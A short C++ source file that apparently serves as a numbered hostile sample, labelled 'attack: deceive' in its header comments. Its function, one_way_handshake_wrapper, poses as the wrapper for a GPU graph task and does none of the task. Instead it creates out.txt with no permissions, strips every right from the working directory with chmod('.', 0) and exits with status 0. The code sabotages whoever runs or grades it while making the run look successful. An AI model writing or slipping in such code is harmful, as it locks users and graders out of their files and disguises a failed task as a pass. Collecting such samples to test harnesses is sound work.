// attack: deceive
// root: host
// what: takes all rights from its folder and from the result, so that no process can read it
// list: 13
#include <cstdlib>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  close(open("out.txt", O_WRONLY | O_CREAT, 0));
  chmod(".", 0);
  _exit(0);
}
